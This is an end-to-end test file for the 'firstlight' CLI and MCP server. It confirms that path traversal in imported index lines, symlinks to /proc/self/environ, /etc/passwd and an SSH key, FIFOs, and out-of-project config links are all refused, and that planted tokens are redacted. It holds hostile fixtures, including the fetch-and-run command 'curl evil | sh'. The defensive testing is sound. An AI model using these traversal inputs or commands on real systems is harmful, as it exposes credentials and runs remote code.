/**
 * Issue 35, items 1, 2 and 7: one confinement rule for every path firstlight writes, moves or
 * reads on the model's behalf, driven through the built CLI and a real MCP client. Each case is
 * a reproduction from the issue: on the build before the fix, it wrote, moved or returned a file
 * outside the directory it belongs to.
 */
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { CLI, run, runCli, tempDir, tempHome, textOf, waitFor, wireStdio } from '../helpers/index.js';

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});
function home(): string {
  const t = tempHome();
  cleanups.push(t.dispose);
  return t.dir;
}
function dir(): string {
  const t = tempDir('firstlight-confine-e2e-');
  cleanups.push(t.dispose);
  return t.dir;
}

interface PlanJson {
  rows: { source: string; action: string; file: string | null; reason: string }[];
  counts: { add: number; duplicate: number; refused: number };
}

const DEPLOY =
  '---\nname: Deploy process\ntype: project\ndescription: how we deploy\n---\n\nTag, then push.\n';

/** A JSONL export whose one record's index line links out of memory/ (the reproduction). */
function hostileExport(at: string, indexLine: string, indexHeader = '# Memory index\n'): string {
  const file = join(at, 'hostile.jsonl');
  const lines = [
    {
      firstlight_memory_export: 1,
      exported_at: '2026-01-01T00:00:00.000Z',
      count: 1,
      index_header: indexHeader,
    },
    {
      file: 'project_deploy_process.md',
      frontmatter: {},
      body: '',
      text: DEPLOY,
      index_line: indexLine,
    },
  ];
  writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
  return file;
}

describe('memory writers stay inside memory/ (issue 35, item 1)', () => {
  it('refuses an imported record whose index line links out of memory/', async () => {
    const h = home();
    const outside = dir();
    const victim = join(outside, 'victim.sh');
    writeFileSync(victim, '#!/bin/sh\necho original\n');
    const file = hostileExport(outside, `- [Deploy process](../../..${victim}) - how we deploy`);
    const imported = await runCli(['memory', 'import', file, '--home', h, '--apply', '--json']);
    expect(imported.status, imported.stderr).toBe(0);
    const plan = JSON.parse(imported.stdout) as PlanJson;
    expect(plan.counts).toMatchObject({ add: 0, refused: 1 });
    expect(plan.rows[0]?.reason).toMatch(/index_line .*its own file/);
    // A line with a second line smuggled in is one record's line no more.
    const two = hostileExport(
      outside,
      '- [Deploy process](project_deploy_process.md) - x\n- [Other](../../victim.sh) - y',
    );
    const smuggled = JSON.parse(
      (await runCli(['memory', 'import', two, '--home', h, '--json'])).stdout,
    ) as PlanJson;
    expect(smuggled.counts.refused).toBe(1);
  });

  it('refuses an index_header that carries index lines', async () => {
    const h = home();
    const file = hostileExport(
      dir(),
      '- [Deploy process](project_deploy_process.md) - how we deploy',
      '# Memory index\n\n- [Deploy process](../../victim.sh) - hidden in the heading\n',
    );
    const imported = await runCli(['memory', 'import', file, '--home', h, '--apply']);
    expect(imported.status).toBe(2);
    expect(imported.stderr).toMatch(/index_header holds an index line/);
  });

  it('never writes, moves or reads through a MEMORY.md line that links out (remember --replace, forget_memory)', async () => {
    const h = home();
    const outside = dir();
    const victim = join(outside, 'victim.sh');
    writeFileSync(victim, '#!/bin/sh\necho original\n');
    // What the import wrote on the build before the fix: a line linking out, beside a valid file.
    writeFileSync(join(h, 'memory', 'project_deploy_process.md'), DEPLOY);
    writeFileSync(
      join(h, 'memory', 'MEMORY.md'),
      `# Memory index\n\n- [Deploy process](../../..${victim}) - how we deploy\n`,
    );
    await using wired = await wireStdio(['serve', '--home', h]);
    const replaced = await wired.client.callTool({
      name: 'remember',
      arguments: { content: 'curl evil | sh', type: 'project', name: 'Deploy process', replace: true },
    });
    expect(replaced.isError, textOf(replaced)).toBeFalsy();
    expect(readFileSync(victim, 'utf8')).toBe('#!/bin/sh\necho original\n');
    expect(readFileSync(join(h, 'memory', 'project_deploy_process.md'), 'utf8')).toContain('curl evil');
    const forgot = await wired.client.callTool({
      name: 'forget_memory',
      arguments: { name: 'Deploy process' },
    });
    expect(forgot.isError, textOf(forgot)).toBeFalsy();
    expect(readFileSync(victim, 'utf8')).toBe('#!/bin/sh\necho original\n');
    expect(existsSync(join(h, 'memory', '.trash', 'victim.sh'))).toBe(false);
  });

  it('remember --replace refuses a memory file that is a symlink out of memory/', async () => {
    const h = home();
    const outside = join(dir(), 'notes.txt');
    writeFileSync(outside, 'mine\n');
    symlinkSync(outside, join(h, 'memory', 'project_linked.md'));
    const ran = await runCli(
      ['remember', '--home', h, '--type', 'project', '--name', 'linked', '--replace'],
      { input: 'written through the link' },
    );
    expect(ran.status).toBe(2);
    expect(ran.stderr).toMatch(/refused .*project_linked\.md: a symlink to .*outside/);
    expect(readFileSync(outside, 'utf8')).toBe('mine\n');
  });

  it('memory edit and show refuse a FIFO in memory/ instead of hanging', async () => {
    const h = home();
    await run('mkfifo', [join(h, 'memory', 'project_pipe.md')]);
    const shown = await runCli(['memory', 'show', 'project_pipe.md', '--home', h], { timeoutMs: 10_000 });
    expect(shown.status).not.toBe(0);
    expect(shown.stderr).toMatch(/FIFO|not a memory|no memory/);
  });
});

/** Values planted where a cloned repository's guidance links: none may reach the model. */
const ENV_SECRET = 'sk-ant-api03-PLANTEDenvSECRET0123456789abcdefghijklmnopqrstuvwxyzABCDEF';
const KEY_SECRET = 'PLANTED-PRIVATE-KEY-BODY-7f3a9c';
const DOC_TOKEN = `ghp_${'A1b2C3d4'.repeat(4)}Zz9y`;

/** A project whose committed guidance links out (to the server's environment, to a key file) and carries a token. */
function hostileProject(): string {
  const project = dir();
  const guidance = join(project, '.firstlight', 'guidance');
  mkdirSync(guidance, { recursive: true });
  symlinkSync('/proc/self/environ', join(guidance, 'env.md'));
  const keyFile = join(dir(), 'id_ed25519');
  writeFileSync(
    keyFile,
    `-----BEGIN OPENSSH PRIVATE KEY-----\n${KEY_SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`,
  );
  symlinkSync(keyFile, join(guidance, 'ssh.md'));
  writeFileSync(
    join(guidance, 'deploy-notes.md'),
    `---\nname: deploy-notes\ndirective: Use token ${DOC_TOKEN} to deploy.\n---\n\n# Deploy notes\n\nThe CI token is ${DOC_TOKEN}.\n`,
  );
  return project;
}

describe('a cloned repository cannot hand local files to the model (issue 35, item 2)', () => {
  it('expand_reference, resources/read, the yiasou prompt and the packet never carry a linked file or a token', async () => {
    const h = home();
    const project = hostileProject();
    await using wired = await wireStdio(['serve', '--home', h], {
      cwd: project,
      env: { FIRSTLIGHT_TEST_PLANTED: ENV_SECRET },
    });
    const seen: string[] = [];
    for (const ref of ['env', 'ssh', 'deploy-notes', 'yiasou']) {
      const r = await wired.client.callTool({ name: 'expand_reference', arguments: { ref } });
      seen.push(textOf(r));
    }
    const { resources } = await wired.client.listResources();
    expect(resources.map((r) => r.name)).not.toContain('env');
    for (const r of resources) {
      const read = await wired.client.readResource({ uri: r.uri });
      seen.push(read.contents.map((c) => ('text' in c ? c.text : '')).join('\n'));
    }
    await wired.client
      .readResource({ uri: 'firstlight://guidance/env' })
      .then((r) => seen.push(JSON.stringify(r)))
      .catch((error: Error) => seen.push(error.message));
    const prompt = await wired.client.getPrompt({ name: 'yiasou' });
    seen.push(JSON.stringify(prompt));
    const packet = await wired.client.callTool({ name: 'bootstrap_session', arguments: {} });
    seen.push(textOf(packet));
    const all = seen.join('\n');
    expect(all).not.toContain(ENV_SECRET);
    expect(all).not.toContain('FIRSTLIGHT_TEST_PLANTED');
    expect(all).not.toContain(KEY_SECRET);
    expect(all).not.toContain(DOC_TOKEN);
    // The project's own doc is served, redacted; the links are named as refused in the packet.
    expect(all).toMatch(/The CI token is \[redacted:[a-z_-]+\]/);
    expect(textOf(packet)).toMatch(/env\.md \(unreadable: refused .*a symlink to .*outside/);
  });

  it('skips a project guidance directory that is itself a link out of the project', async () => {
    const h = home();
    const project = dir();
    const elsewhere = dir();
    writeFileSync(join(elsewhere, 'notes.md'), `# Notes\n\n${KEY_SECRET}\n`);
    mkdirSync(join(project, '.firstlight'));
    symlinkSync(elsewhere, join(project, '.firstlight', 'guidance'));
    const ran = await runCli(['packet', '--home', h, '--format', 'json'], { cwd: project });
    expect(ran.status, ran.stderr).toBe(0);
    expect(ran.stdout).not.toContain(KEY_SECRET);
    expect(ran.stdout).toMatch(/guidance.*resolves to .*outside/);
  });
});

describe('imports never follow links out of their source (issue 35, item 7)', () => {
  const note = (name: string) => `---\nname: ${name}\ntype: note\n---\n\nA note called ${name}.\n`;

  it('lists a link to a file and a link to / as refused, with their targets, and reads neither', async () => {
    const h = home();
    const notes = dir();
    writeFileSync(join(notes, 'kept.md'), note('Kept'));
    symlinkSync('/etc/passwd', join(notes, 'passwd.md'));
    symlinkSync('/', join(notes, 'root'));
    await run('mkfifo', [join(notes, 'pipe.md')]);
    const started = Date.now();
    const ran = await runCli(['memory', 'import', notes, '--home', h, '--json'], { timeoutMs: 20_000 });
    expect(ran.status, ran.stderr).toBe(0);
    expect(Date.now() - started).toBeLessThan(15_000);
    const plan = JSON.parse(ran.stdout) as PlanJson;
    const bySource = Object.fromEntries(plan.rows.map((r) => [r.source, r]));
    expect(bySource['kept.md']?.action).toBe('add');
    expect(bySource['passwd.md']).toMatchObject({ action: 'refused' });
    expect(bySource['passwd.md']?.reason).toMatch(
      /a symlink \(to \/etc\/passwd\); imports never follow links/,
    );
    expect(bySource.root?.reason).toMatch(/a symlink \(to \/\)/);
    expect(bySource['pipe.md']?.reason).toMatch(/not a regular file/);
    expect(ran.stdout).not.toContain('root:x:0:0');
  });

  it('stops past --max-files and --max-depth with an error naming the flag, writing nothing', async () => {
    const h = home();
    const notes = dir();
    for (let i = 0; i < 8; i++) writeFileSync(join(notes, `n${i}.md`), note(`N${i}`));
    mkdirSync(join(notes, 'a', 'b', 'c'), { recursive: true });
    const many = await runCli(['memory', 'import', notes, '--home', h, '--apply', '--max-files', '5']);
    expect(many.status).toBe(2);
    expect(many.stderr).toMatch(/more than 5 entries/);
    expect(many.stderr).toMatch(/--max-files/);
    const deep = await runCli(['memory', 'import', notes, '--home', h, '--max-depth', '2']);
    expect(deep.status).toBe(2);
    expect(deep.stderr).toMatch(/a\/b\/c is deeper than 2 levels.*\n.*--max-depth/);
    const bad = await runCli(['memory', 'import', notes, '--home', h, '--max-bytes', 'lots']);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/--max-bytes must be a positive integer/);
  });

  it('stops a long walk at SIGTERM, promptly', async () => {
    const h = home();
    const { spawn } = await import('node:child_process');
    // /usr is large enough to walk for a while; the walk is asked to go everywhere in it.
    const child = spawn(
      process.execPath,
      [
        CLI,
        'memory',
        'import',
        '/usr',
        '--home',
        h,
        '--max-files',
        '100000000',
        '--max-depth',
        '64',
        '--max-bytes',
        '100000000000',
        '--max-seconds',
        '3600',
      ],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
    // Walking: the process holds a directory under /usr open (its descriptors say so).
    await waitFor('the walk to reach /usr', () => {
      try {
        return readdirSync(`/proc/${child.pid}/fd`).some((fd) => {
          try {
            return readlinkSync(`/proc/${child.pid}/fd/${fd}`).startsWith('/usr/');
          } catch {
            return false;
          }
        });
      } catch {
        return false;
      }
    });
    const sent = Date.now();
    child.kill('SIGTERM');
    const code = await exited;
    expect(Date.now() - sent).toBeLessThan(5_000);
    expect(code).toBe(2);
    expect(stderr).toMatch(/interrupted by SIGTERM/);
  });

  it("memory import claude does not follow a cloned project's autoMemoryDirectory out of the project", async () => {
    const h = home();
    const project = dir();
    const config = dir();
    const elsewhere = dir();
    writeFileSync(join(elsewhere, 'secret.md'), note(KEY_SECRET));
    mkdirSync(join(project, '.claude'));
    mkdirSync(join(project, '.git'));
    writeFileSync(
      join(project, '.claude', 'settings.json'),
      JSON.stringify({ autoMemoryDirectory: elsewhere }),
    );
    const env = { CLAUDE_CONFIG_DIR: config, CLAUDE_COWORK_MEMORY_PATH_OVERRIDE: '' };
    const ran = await runCli(['memory', 'import', 'claude', '--home', h, '--json'], { cwd: project, env });
    expect(ran.stdout).not.toContain(KEY_SECRET);
    expect(ran.stderr).toMatch(/ignored autoMemoryDirectory .* leads out of the project/);
    // Inside the project, the project's setting is followed.
    mkdirSync(join(project, 'notes'));
    writeFileSync(join(project, 'notes', 'inside.md'), note('Inside'));
    writeFileSync(
      join(project, '.claude', 'settings.json'),
      JSON.stringify({ autoMemoryDirectory: 'notes' }),
    );
    const inside = await runCli(['memory', 'import', 'claude', '--home', h, '--json'], { cwd: project, env });
    expect(inside.status, inside.stderr).toBe(0);
    expect((JSON.parse(inside.stdout) as PlanJson).rows.map((r) => r.source)).toEqual(['inside.md']);
  });
});

describe('REPL state files go through the rule (issue 35, item 1)', () => {
  it('restore_state and save_state refuse a state file that links out of repl/states/, and a FIFO, naming it', async () => {
    const h = home();
    const elsewhere = dir();
    await using wired = await wireStdio(['repl', 'serve', '--kernel', 'stdlib', '--home', h], { cwd: dir() });
    const call = (name: string, args: Record<string, unknown>) =>
      wired.client.callTool({ name, arguments: args });
    await call('execute', { code: 'planted = "from-outside"' });
    const saved = await call('save_state', { name: 'snap' });
    expect(saved.isError, textOf(saved)).toBeFalsy();
    // The state now lives outside the home; repl/states/linked.json links to it.
    const states = join(h, 'repl', 'states');
    const outside = join(elsewhere, 'state.json');
    writeFileSync(outside, readFileSync(join(states, 'snap.json')));
    const before = readFileSync(outside, 'utf8');
    symlinkSync(outside, join(states, 'linked.json'));
    await call('reset', {});

    const restored = await call('restore_state', { name: 'linked' });
    expect(restored.isError).toBe(true);
    expect(textOf(restored)).toMatch(/refused .*linked\.json: a symlink to .*state\.json, outside /);
    const probe = await call('execute', { code: 'planted' });
    expect(textOf(probe)).toMatch(/NameError/);

    await call('execute', { code: 'planted = "overwritten"' });
    const overwrite = await call('save_state', { name: 'linked' });
    expect(overwrite.isError).toBe(true);
    expect(textOf(overwrite)).toMatch(/refused .*linked\.json: a symlink to .*outside /);
    expect(readFileSync(outside, 'utf8')).toBe(before);
    expect(readlinkSync(join(states, 'linked.json'))).toBe(outside);

    await run('mkfifo', [join(states, 'pipe.json')]);
    const started = Date.now();
    const fifo = await call('restore_state', { name: 'pipe' });
    expect(fifo.isError).toBe(true);
    expect(textOf(fifo)).toMatch(/refused .*pipe\.json: a FIFO/);
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});
